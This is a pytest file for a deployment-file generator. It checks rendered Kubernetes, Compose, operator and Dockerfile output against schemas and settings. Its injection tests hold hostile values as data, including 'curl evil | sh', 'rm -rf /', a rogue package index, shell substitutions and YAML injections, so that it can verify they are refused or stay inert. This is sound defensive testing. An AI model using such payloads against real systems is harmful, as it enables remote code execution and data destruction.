"""The deployment files: valid against their schemas, shaped by the settings, and safe from them.

`kubernetes.yaml` is checked with kubernetes-validate in strict mode (unknown fields are errors),
`restate-deployment.yaml` against the restate-operator's CRD and `docker-compose.yaml` against the
Compose Specification's JSON Schema; both schemas are fixtures (tests/fixtures/deploy/README.md).
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import stat
import subprocess
import textwrap
import tomllib
from functools import cache
from pathlib import Path
from typing import Any

import jsonschema
import kubernetes_validate
import pytest
import yaml
from pydantic import ValidationError

from restagen import __version__
from restagen.cli import main
from restagen.compiler import ir, write
from restagen.compiler.format import format_files
from restagen.compiler.pipeline import compile_paths, generate_files
from restagen.compiler.render.deploy import render_deploy
from restagen.compiler.render.deploy_settings import DeploySettings
from restagen.compiler.render.header import OWNED_MARKER
from restagen.project import ProjectConfigError, find_project

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "tests" / "fixtures" / "deploy"
KUBERNETES_VERSION = "1.33"

CUSTOM = DeploySettings(
    image="registry.example.com:5000/team/{name}:1.2.3",
    replicas=3,
    namespace="shop",
    port=8000,
    restate_version="1.7.12",
    operator_admin_url="http://restate.restate.svc.cluster.local:9070",
    admin_url="https://admin.example.com:9070",
)
SETTINGS = {"default": DeploySettings(), "custom": CUSTOM}


@cache
def _program() -> ir.Program:
    result = compile_paths([ROOT / "examples" / "ftgo" / "schemas"])
    assert result.program is not None
    return result.program


def _package(name: str = "ftgo.orders") -> ir.Package:
    return _program().package(name)


def _files(settings: DeploySettings, package: str = "ftgo.orders") -> dict[str, str]:
    return {path.rsplit("/", 1)[1]: text for path, text in render_deploy(_package(package), settings).items()}


def _documents(text: str) -> list[Any]:
    return [doc for doc in yaml.safe_load_all(text) if doc is not None]


@cache
def _crd() -> dict[str, Any]:
    return dict(yaml.safe_load((FIXTURES / "restatedeployments.crd.yaml").read_text()))


def _strict(schema: Any) -> Any:
    """The CRD schema as the API server applies it with field validation Strict: unknown fields fail."""
    if isinstance(schema, dict):
        schema = {key: _strict(value) for key, value in schema.items()}
        if (
            schema.get("type") == "object"
            and "properties" in schema
            and not schema.get("x-kubernetes-preserve-unknown-fields")
        ):
            schema.setdefault("additionalProperties", False)
        return schema
    if isinstance(schema, list):
        return [_strict(item) for item in schema]
    return schema


@pytest.mark.parametrize("settings", SETTINGS.values(), ids=SETTINGS.keys())
def test_kubernetes_file_validates_strictly(settings: DeploySettings) -> None:
    documents = _documents(_files(settings)["kubernetes.yaml"])
    assert [d["kind"] for d in documents] == ["Deployment", "Service"]
    for document in documents:
        kubernetes_validate.validate(document, KUBERNETES_VERSION, strict=True)
    deployment, service = documents
    labels = deployment["spec"]["template"]["metadata"]["labels"]
    assert deployment["spec"]["selector"]["matchLabels"].items() <= labels.items()
    assert service["spec"]["selector"].items() <= labels.items()
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    port_names = {p["name"] for p in container["ports"]}
    assert {p["targetPort"] for p in service["spec"]["ports"]} <= port_names
    assert container["readinessProbe"]["httpGet"]["port"] in port_names
    assert service["spec"]["ports"][0]["appProtocol"] == "kubernetes.io/h2c"
    assert container["command"] == [
        "restagen",
        "serve",
        "ftgo.orders.main:app",
        "--host",
        "0.0.0.0",
        "--port",
        str(settings.port),
    ]


def test_kubernetes_validation_catches_a_bad_file() -> None:
    """The validator is strict enough to be worth running: an unknown field and a wrong type fail."""
    deployment = _documents(_files(DeploySettings())["kubernetes.yaml"])[0]
    unknown = copy.deepcopy(deployment)
    unknown["spec"]["replica"] = 1
    wrong = copy.deepcopy(deployment)
    wrong["spec"]["replicas"] = "one"
    for document in (unknown, wrong):
        with pytest.raises(kubernetes_validate.ValidationError):
            kubernetes_validate.validate(document, KUBERNETES_VERSION, strict=True)


@pytest.mark.parametrize("settings", SETTINGS.values(), ids=SETTINGS.keys())
def test_restate_deployment_matches_the_operator_crd(settings: DeploySettings) -> None:
    (resource,) = _documents(_files(settings)["restate-deployment.yaml"])
    crd = _crd()
    served = [v["name"] for v in crd["spec"]["versions"] if v["served"]]
    assert resource["apiVersion"] in {f"{crd['spec']['group']}/{v}" for v in served}
    assert resource["kind"] == crd["spec"]["names"]["kind"]
    version = next(v for v in crd["spec"]["versions"] if resource["apiVersion"].endswith("/" + v["name"]))
    schema = _strict(version["schema"]["openAPIV3Schema"])
    # apiVersion, kind and metadata are the API server's, not part of the CRD's schema.
    body = {key: value for key, value in resource.items() if key not in ("apiVersion", "kind", "metadata")}
    jsonschema.Draft7Validator(schema).validate(body)
    assert resource["metadata"]["name"] == "ftgo-orders"
    # The pod spec is passed through unchecked by the CRD: check it as a Kubernetes PodSpec.
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p"},
        "spec": resource["spec"]["template"]["spec"],
    }
    kubernetes_validate.validate(pod, KUBERNETES_VERSION, strict=True)
    labels = resource["spec"]["template"]["metadata"]["labels"]
    assert resource["spec"]["selector"]["matchLabels"].items() <= labels.items()
    register = resource["spec"]["restate"]["register"]
    if settings.operator_admin_url is None:
        assert register == {"cluster": "restate"}
    else:
        assert register == {"url": settings.operator_admin_url}


def test_crd_validation_catches_a_bad_resource() -> None:
    (resource,) = _documents(_files(DeploySettings())["restate-deployment.yaml"])
    schema = _strict(_crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"])
    body = {key: value for key, value in resource.items() if key not in ("apiVersion", "kind", "metadata")}
    unknown = copy.deepcopy(body)
    unknown["spec"]["restate"]["drainDelay"] = 60  # a typo of drainDelaySeconds: pruned, so refused
    both = copy.deepcopy(body)
    both["spec"]["restate"]["register"]["url"] = "http://x:9070"  # exactly one target is allowed
    for bad in (unknown, both):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.Draft7Validator(schema).validate(bad)


@pytest.mark.parametrize("settings", SETTINGS.values(), ids=SETTINGS.keys())
def test_compose_file_matches_the_compose_spec(settings: DeploySettings) -> None:
    (document,) = _documents(_files(settings)["docker-compose.yaml"])
    schema = json.loads((FIXTURES / "compose-spec.json").read_text())
    jsonschema.Draft7Validator(schema).validate(document)
    services = document["services"]
    assert sorted(services) == ["ftgo-orders", "ftgo-orders-register", "restate"]
    assert services["restate"]["image"] == f"docker.restate.dev/restatedev/restate:{settings.restate_version}"
    assert {"8080:8080", "9070:9070"} <= set(services["restate"]["ports"])
    custom_image = "registry.example.com:5000/team/ftgo-orders:1.2.3"
    expected_image = "ftgo-orders:latest" if settings == DeploySettings() else custom_image
    assert services["ftgo-orders"]["image"] == services["ftgo-orders-register"]["image"] == expected_image
    register = services["ftgo-orders-register"]["entrypoint"]
    assert register[:2] == ["restagen", "register"]
    assert register[register.index("--uri") + 1] == f"http://ftgo-orders:{settings.port}"
    assert register[register.index("--admin") + 1] == "http://restate:9070"


def test_compose_validation_catches_a_bad_file() -> None:
    (document,) = _documents(_files(DeploySettings())["docker-compose.yaml"])
    document["services"]["restate"]["port"] = ["8080:8080"]
    schema = json.loads((FIXTURES / "compose-spec.json").read_text())
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft7Validator(schema).validate(document)


def test_compose_files_of_several_packages_combine() -> None:
    """Merged as `docker compose -f a -f b` does, the stacks share one restate-server.

    With the Kafka clusters listed in the settings, every package configures the same ones (ftgo's
    orders binds a handler to a topic, its kitchen does not), so the restate services are equal.
    """
    merged: dict[str, Any] = {"services": {}, "volumes": {}}
    settings = DeploySettings(kafka_brokers={"kafka": ["PLAINTEXT://kafka:9092"]})
    for package in ("ftgo.orders", "ftgo.kitchen"):
        (document,) = _documents(_files(settings, package)["docker-compose.yaml"])
        for name, service in document["services"].items():
            assert merged["services"].setdefault(name, service) == service
        merged["volumes"].update(document["volumes"])
    assert sorted(merged["services"]) == [
        "ftgo-kitchen",
        "ftgo-kitchen-register",
        "ftgo-orders",
        "ftgo-orders-register",
        "restate",
    ]


def _fake_restagen(tmp_path: Path) -> dict[str, str]:
    """A `restagen` on PATH that prints its arguments, one per line."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "restagen"
    fake.write_text('#!/bin/sh\nfor arg in "$@"; do printf "%s\\n" "$arg"; done\n')
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    env = {k: v for k, v in os.environ.items() if k not in ("RESTATE_ADMIN_URL", "ENDPOINT_URL")}
    env["PATH"] = f"{bin_dir}{os.pathsep}{env['PATH']}"
    return env


def _run_register(script: str, tmp_path: Path, env: dict[str, str], *args: str) -> list[str]:
    path = tmp_path / "register.sh"
    path.write_text(script)
    result = subprocess.run(
        ["sh", str(path), *args], cwd=tmp_path, env=env, capture_output=True, text=True, check=True
    )
    return result.stdout.splitlines()


@pytest.mark.skipif(shutil.which("sh") is None, reason="needs a POSIX shell")
def test_register_script_calls_restagen_register(tmp_path: Path) -> None:
    env = _fake_restagen(tmp_path)
    script = _files(DeploySettings())["register.sh"]
    assert script.startswith(OWNED_MARKER)
    # The orders bind a handler to a Kafka topic: their subscriptions file, beside the script.
    subscriptions = f"{tmp_path}/kafka-subscriptions.yaml"
    assert _run_register(script, tmp_path, env) == [
        "register",
        "--admin",
        "http://localhost:9070",
        "--uri",
        "http://ftgo-orders:9080",
        "--subscriptions",
        subscriptions,
    ]
    custom = _files(CUSTOM)["register.sh"]
    assert _run_register(custom, tmp_path, env, "--timeout", "5") == [
        "register",
        "--admin",
        "https://admin.example.com:9070",
        "--uri",
        "http://ftgo-orders.shop.svc:8000",
        "--subscriptions",
        subscriptions,
        "--timeout",
        "5",
    ]
    kitchen = _files(DeploySettings(), "ftgo.kitchen")["register.sh"]
    assert "--subscriptions" not in _run_register(kitchen, tmp_path, env)
    env |= {"RESTATE_ADMIN_URL": "http://other:9070", "ENDPOINT_URL": "http://host.docker.internal:9080"}
    assert _run_register(script, tmp_path, env)[1:5] == [
        "--admin",
        "http://other:9070",
        "--uri",
        "http://host.docker.internal:9080",
    ]


# -- Dockerfile -----------------------------------------------------------------------------------


def _instructions(dockerfile: str) -> list[str]:
    """The instructions of a Dockerfile, comments left out (no line of these files continues)."""
    lines = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
    assert not any(line.endswith("\\") for line in lines)
    return [line.split(" ", 1)[0] for line in lines]


def _instruction(dockerfile: str, name: str) -> Any:
    (line,) = [line for line in dockerfile.splitlines() if line.startswith(f"{name} ")]
    value = line.split(" ", 1)[1]
    return json.loads(value) if value.startswith("[") else value


def test_dockerfile_installs_the_runtime_and_starts_the_endpoint_as_the_other_files_do() -> None:
    files = _files(CUSTOM, "ftgo.kitchen")
    dockerfile = files["Dockerfile"]
    assert dockerfile.startswith(OWNED_MARKER)
    assert _instructions(dockerfile) == ["FROM", "RUN", "WORKDIR", "COPY", "ENV", "USER", "EXPOSE", "CMD"]
    assert _instruction(dockerfile, "FROM") == "python:3.12-slim"
    # The kitchen publishes events: the extra of their subscriber and of the SSE hub comes along.
    assert _instruction(dockerfile, "RUN") == [
        "pip",
        "install",
        "--no-cache-dir",
        f"restagen[sse]=={__version__}",
    ]
    assert _instruction(dockerfile, "EXPOSE") == "8000"
    command = _instruction(dockerfile, "CMD")
    assert command == ["restagen", "serve", "ftgo.kitchen.main:app", "--host", "0.0.0.0", "--port", "8000"]
    (deployment, _) = _documents(files["kubernetes.yaml"])
    assert deployment["spec"]["template"]["spec"]["containers"][0]["command"] == command
    (compose,) = _documents(files["docker-compose.yaml"])
    assert compose["services"]["ftgo-kitchen"]["entrypoint"] == command
    assert compose["services"]["ftgo-kitchen-register"]["entrypoint"][:2] == ["restagen", "register"]
    assert (
        "docker build -f ftgo/kitchen/deploy/Dockerfile -t registry.example.com:5000/team/ftgo-kitchen:1.2.3 ."
        in dockerfile
    )


def test_dockerfile_settings_and_extras(tmp_path: Path) -> None:
    settings = DeploySettings(python_image="python:3.13-slim", requirements=["sqlalchemy>=2,<3", "attrs"])
    dockerfile = _files(settings, "ftgo.accounting")["Dockerfile"]
    assert _instruction(dockerfile, "FROM") == "python:3.13-slim"
    assert _instruction(dockerfile, "RUN")[3:] == [f"restagen=={__version__}", "sqlalchemy>=2,<3", "attrs"]
    (tmp_path / "b.restagen.yaml").write_text(
        "restagen: 1\npackage: shop.blobs\nserde: bson\nservices:\n  blobs:\n    handlers:\n"
        "      put: {input: bytes}\n"
    )
    program = compile_paths([tmp_path / "b.restagen.yaml"]).program
    assert program is not None
    dockerfile = render_deploy(program.package("shop.blobs"), DeploySettings())[
        "shop/blobs/deploy/Dockerfile"
    ]
    assert _instruction(dockerfile, "RUN")[3] == f"restagen[bson]=={__version__}"


# -- a cluster ------------------------------------------------------------------------------------

CLUSTER = {
    "default": DeploySettings(targets=["cluster"]),
    "five": DeploySettings(targets=["cluster"], cluster_nodes=5, operator_cluster="prod"),
}


@cache
def _cluster_crd() -> dict[str, Any]:
    return dict(yaml.safe_load((FIXTURES / "restateclusters.crd.yaml").read_text()))


def _cluster_body(resource: dict[str, Any]) -> dict[str, Any]:
    """What the CRD's schema covers: apiVersion and kind are the API server's, and of the metadata
    it constrains the name only (a cluster-scoped name: it becomes a namespace)."""
    body = {key: value for key, value in resource.items() if key not in ("apiVersion", "kind")}
    return {**body, "metadata": {"name": resource["metadata"]["name"]}}


@pytest.mark.parametrize("settings", CLUSTER.values(), ids=CLUSTER.keys())
def test_restate_cluster_matches_the_operator_crd(settings: DeploySettings) -> None:
    (resource,) = _documents(_files(settings)["restate-cluster.yaml"])
    crd = _cluster_crd()
    served = [v["name"] for v in crd["spec"]["versions"] if v["served"]]
    assert resource["apiVersion"] in {f"{crd['spec']['group']}/{v}" for v in served}
    assert resource["kind"] == crd["spec"]["names"]["kind"]
    version = next(v for v in crd["spec"]["versions"] if resource["apiVersion"].endswith("/" + v["name"]))
    schema = _strict(version["schema"]["openAPIV3Schema"])
    jsonschema.Draft7Validator(schema).validate(_cluster_body(resource))
    assert resource["metadata"]["name"] == settings.operator_cluster, (
        "the cluster the endpoint registers with"
    )
    assert resource["spec"]["compute"]["replicas"] == settings.cluster_nodes
    assert resource["spec"]["cluster"]["autoProvision"] is True
    config = tomllib.loads(resource["spec"]["config"])
    assert config["auto-provision"] is False, "the operator provisions: no node may"
    assert config["default-replication"] == (settings.cluster_nodes + 1) // 2
    assert config["bifrost"]["default-provider"] == "replicated"
    assert len(config["metadata-client"]["addresses"]) == settings.cluster_nodes


def test_cluster_crd_validation_catches_a_bad_resource() -> None:
    (resource,) = _documents(_files(CLUSTER["default"])["restate-cluster.yaml"])
    schema = _strict(_cluster_crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"])
    body = _cluster_body(resource)
    unknown = copy.deepcopy(body)
    unknown["spec"]["compute"]["nodes"] = 3
    missing = copy.deepcopy(body)
    del missing["spec"]["storage"]
    for bad in (unknown, missing):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.Draft7Validator(schema).validate(bad)


@pytest.mark.parametrize("settings", CLUSTER.values(), ids=CLUSTER.keys())
def test_cluster_compose_file_matches_the_compose_spec(settings: DeploySettings) -> None:
    (document,) = _documents(_files(settings)["docker-compose.cluster.yaml"])
    schema = json.loads((FIXTURES / "compose-spec.json").read_text())
    jsonschema.Draft7Validator(schema).validate(document)
    services = document["services"]
    nodes = [f"restate-{n}" for n in range(1, settings.cluster_nodes + 1)]
    assert sorted(services) == sorted([*nodes, "ftgo-orders", "ftgo-orders-register"])
    provisioning = [
        node for node in nodes if services[node]["environment"]["RESTATE_AUTO_PROVISION"] == "true"
    ]
    assert provisioning == ["restate-1"]
    published = [port for node in nodes for port in services[node]["ports"]]
    assert len(published) == len(set(published)) == settings.cluster_nodes + 1
    assert len({service["volumes"][0] for name, service in services.items() if name in nodes}) == len(nodes)
    ingresses = json.loads(services["ftgo-orders"]["environment"]["RESTAGEN_INGRESS__URL"])
    assert ingresses == [f"http://{node}:8080" for node in nodes], "the endpoint's clients fail over"
    assert set(services["ftgo-orders-register"]["depends_on"]) == {*nodes, "ftgo-orders"}


def test_cluster_settings() -> None:
    assert "cluster" not in DeploySettings().targets, "a cluster's files only on request"
    assert sorted(_files(CLUSTER["default"])) == ["docker-compose.cluster.yaml", "restate-cluster.yaml"]
    (resource,) = _documents(
        _files(DeploySettings(targets=["cluster"], cluster_replication=3))["restate-cluster.yaml"]
    )
    assert tomllib.loads(resource["spec"]["config"])["default-replication"] == 3
    for bad in (
        {"cluster_nodes": 0},
        {"cluster_replication": 0},
        {"cluster_nodes": 3, "cluster_replication": 4},
    ):
        with pytest.raises(ValidationError):
            DeploySettings(**bad)  # type: ignore[arg-type]


# -- settings -------------------------------------------------------------------------------------


def test_targets_choose_the_files() -> None:
    assert sorted(_files(DeploySettings(targets=["compose", "kubernetes"]))) == [
        "docker-compose.yaml",
        "kubernetes.yaml",
    ]
    assert _files(DeploySettings(targets=[])) == {}
    assert sorted(_files(DeploySettings())) == [
        "Dockerfile",
        "docker-compose.yaml",
        "kafka-subscriptions.yaml",
        "kubernetes.yaml",
        "register.sh",
        "restate-deployment.yaml",
        "restate-kafka.toml",
    ]
    # The kitchen binds nothing to Kafka: no Kafka files, even with the target on.
    assert sorted(_files(DeploySettings(), "ftgo.kitchen")) == [
        "Dockerfile",
        "docker-compose.yaml",
        "kubernetes.yaml",
        "register.sh",
        "restate-deployment.yaml",
    ]


def test_image_placeholders() -> None:
    (document,) = _documents(
        _files(DeploySettings(image="r.example/{package}/{name}:v1"))["docker-compose.yaml"]
    )
    assert document["services"]["ftgo-orders"]["image"] == "r.example/ftgo.orders/ftgo-orders:v1"


def test_a_package_without_components_has_no_deploy_folder() -> None:
    assert render_deploy(_package("ftgo.common"), DeploySettings()) == {}


def test_namespace_and_replicas_reach_every_resource() -> None:
    files = _files(CUSTOM)
    resources = [*_documents(files["kubernetes.yaml"]), *_documents(files["restate-deployment.yaml"])]
    assert {r["metadata"]["namespace"] for r in resources} == {"shop"}
    assert {r["spec"]["replicas"] for r in resources if "replicas" in r["spec"]} == {3}
    assert "namespace:" not in _files(DeploySettings())["kubernetes.yaml"]
    for text in files.values():
        assert text.splitlines()[0] == f"{OWNED_MARKER} from {_package().source}. DO NOT EDIT."


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("image", "shop:1\nhostNetwork: true"),
        ("image", "shop: {a: b}"),
        ("image", "shop#1"),
        ("image", ""),
        ("namespace", "shop\nkind: Secret"),
        ("namespace", "Shop"),
        ("namespace", "-shop"),
        ("operator_cluster", "restate: x"),
        ("restate_version", "1.7\n  privileged: true"),
        ("restate_image", "restate'; rm -rf /"),
        ("python_image", "python:3.12\nRUN curl evil | sh"),
        ("requirements", ["--index-url=http://evil"]),
        ("requirements", ["httpx\nRUN true"]),
        ("admin_url", "http://localhost:9070\nx: y"),
        ("admin_url", "http://x/$(touch pwned)"),
        ("operator_admin_url", "ftp://x"),
        ("port", 0),
        ("replicas", -1),
        ("targets", ["helm"]),
    ],
)
def test_settings_reject_what_the_files_cannot_hold(field: str, value: Any) -> None:
    with pytest.raises(ValidationError):
        DeploySettings(**{field: value})


HOSTILE = DeploySettings.model_construct(
    **{
        **DeploySettings().model_dump(),
        "image": 'evil:1"\n      hostNetwork: true\n      x: {',
        "namespace": "shop\n  kind: Secret\n---\nkind: Pod",
        "operator_cluster": "c'\nspec: {}",
        "restate_image": "img\n    privileged: true #",
        "restate_version": "1 &anchor",
        "admin_url": "http://x/$(touch pwned)`touch pwned`'\"; touch pwned",
        "requirements": ['x"]\nRUN ["touch", "pwned', "y\\"],
    }
)


def _shape(value: Any) -> Any:
    """The keys of every mapping in a document, values left out."""
    if isinstance(value, dict):
        return {key: _shape(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_shape(item) for item in value]
    return type(value).__name__


def test_hostile_values_cannot_add_structure() -> None:
    """Even with validation bypassed, a value stays one scalar: same documents, same keys."""
    safe, hostile = _files(DeploySettings(namespace="shop")), _files(HOSTILE)
    for name in ("kubernetes.yaml", "restate-deployment.yaml", "docker-compose.yaml"):
        assert _shape(_documents(hostile[name])) == _shape(_documents(safe[name])), name
    deployment, service = _documents(hostile["kubernetes.yaml"])
    assert deployment["metadata"]["namespace"] == service["metadata"]["namespace"] == HOSTILE.namespace
    assert deployment["spec"]["template"]["spec"]["containers"][0]["image"] == HOSTILE.image
    (resource,) = _documents(hostile["restate-deployment.yaml"])
    assert resource["spec"]["restate"]["register"] == {"cluster": HOSTILE.operator_cluster}
    (compose,) = _documents(hostile["docker-compose.yaml"])
    assert compose["services"]["restate"]["image"] == f"{HOSTILE.restate_image}:{HOSTILE.restate_version}"
    assert _instructions(hostile["Dockerfile"]) == _instructions(safe["Dockerfile"])
    assert _instruction(hostile["Dockerfile"], "RUN")[-2:] == HOSTILE.requirements


def test_a_hostile_python_image_is_not_rendered() -> None:
    hostile = DeploySettings.model_construct(
        **{**DeploySettings().model_dump(), "python_image": "python:3.12\\"}
    )
    with pytest.raises(ValueError, match="python_image"):
        _files(hostile)


@pytest.mark.skipif(shutil.which("sh") is None, reason="needs a POSIX shell")
def test_hostile_values_cannot_run_in_the_register_script(tmp_path: Path) -> None:
    env = _fake_restagen(tmp_path)
    arguments = _run_register(_files(HOSTILE)["register.sh"], tmp_path, env)
    assert arguments[1:3] == ["--admin", HOSTILE.admin_url]
    assert not (tmp_path / "pwned").exists()


def test_project_configuration_reads_the_deploy_table(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        textwrap.dedent(
            """
            [tool.restagen]
            schemas = ["schemas"]

            [tool.restagen.deploy]
            image = "ghcr.io/acme/{name}:2.0"
            namespace = "acme"
            targets = ["kubernetes"]
            """
        )
    )
    project = find_project(tmp_path)
    assert project is not None
    assert project.deploy.image == "ghcr.io/acme/{name}:2.0"
    assert project.deploy.targets == ["kubernetes"]
    assert project.deploy.replicas == 1


@pytest.mark.parametrize(
    "line",
    [
        'image = "x:1\\nhostNetwork: true"',
        'namespace = "a b"',
        'unknown = "x"',
        "replicas = 1.5",
    ],
)
def test_project_configuration_rejects_bad_deploy_settings(tmp_path: Path, line: str) -> None:
    (tmp_path / "pyproject.toml").write_text(f"[tool.restagen]\n\n[tool.restagen.deploy]\n{line}\n")
    with pytest.raises(ProjectConfigError, match=r"\[tool.restagen\] deploy\."):
        find_project(tmp_path)


def test_generate_reports_bad_deploy_settings_as_a_user_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text('[tool.restagen]\n\n[tool.restagen.deploy]\nnamespace = "A_B"\n')
    assert main(["generate"]) == 1
    error = " ".join(capsys.readouterr().err.split())
    assert "deploy.namespace" in error and "'A_B' is not a Kubernetes name" in error
    assert "Traceback" not in error


# -- generation -------------------------------------------------------------------------------------


def _tree(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): p.read_text() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_generate_follows_the_settings_and_removes_stale_deploy_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copytree(ROOT / "examples" / "ftgo" / "schemas", tmp_path / "schemas")
    pyproject = tmp_path / "pyproject.toml"
    pyproject.write_text('[tool.restagen]\nschemas = ["schemas"]\n')
    assert main(["generate"]) == 0
    deploy = tmp_path / "gen" / "ftgo" / "orders" / "deploy"
    assert sorted(p.name for p in deploy.iterdir()) == [
        "Dockerfile",
        "docker-compose.yaml",
        "kafka-subscriptions.yaml",
        "kubernetes.yaml",
        "register.sh",
        "restate-deployment.yaml",
        "restate-kafka.toml",
    ]
    assert not (tmp_path / "gen" / "ftgo" / "common" / "deploy").exists()
    notes = deploy / "notes.yaml"  # a file of the user's: never removed
    notes.write_text("mine: true\n")

    pyproject.write_text(
        '[tool.restagen]\nschemas = ["schemas"]\n\n[tool.restagen.deploy]\n'
        'targets = ["kubernetes"]\nimage = "ghcr.io/acme/{name}:2.0"\n'
    )
    assert main(["generate", "--check"]) == 1  # the settings changed the output
    assert main(["generate"]) == 0
    assert sorted(p.name for p in deploy.iterdir()) == ["kubernetes.yaml", "notes.yaml"]
    assert "image: ghcr.io/acme/ftgo-orders:2.0" in (deploy / "kubernetes.yaml").read_text()
    assert main(["generate", "--check"]) == 0

    # Cached output and a fresh run agree byte for byte.
    shutil.rmtree(tmp_path / "fresh", ignore_errors=True)
    assert main(["generate", "-o", "fresh"]) == 0
    incremental = {k: v for k, v in _tree(tmp_path / "gen").items() if not k.endswith("notes.yaml")}
    assert incremental == _tree(tmp_path / "fresh")


def test_a_hand_edited_deploy_file_is_restored(tmp_path: Path) -> None:
    program = _program()
    out = tmp_path / "out"
    files = generate_files(program, out)
    write.apply(write.plan(out, files))
    target = out / "ftgo" / "orders" / "deploy" / "kubernetes.yaml"
    original = target.read_text()
    target.write_text(original.replace("replicas: 1", "replicas: 7"))
    plan = write.plan(out, generate_files(program, out))
    assert plan.changes == ["ftgo/orders/deploy/kubernetes.yaml"]
    write.apply(plan)
    assert target.read_text() == original


def test_formatting_leaves_deploy_files_alone() -> None:
    files = {f"ftgo/orders/deploy/{name}": text for name, text in _files(DeploySettings()).items()}
    formatted = format_files({**files, "ftgo/orders/m.py": "x=1\n"})
    assert formatted["ftgo/orders/m.py"] == "x = 1\n"
    assert {path: formatted[path] for path in files} == files
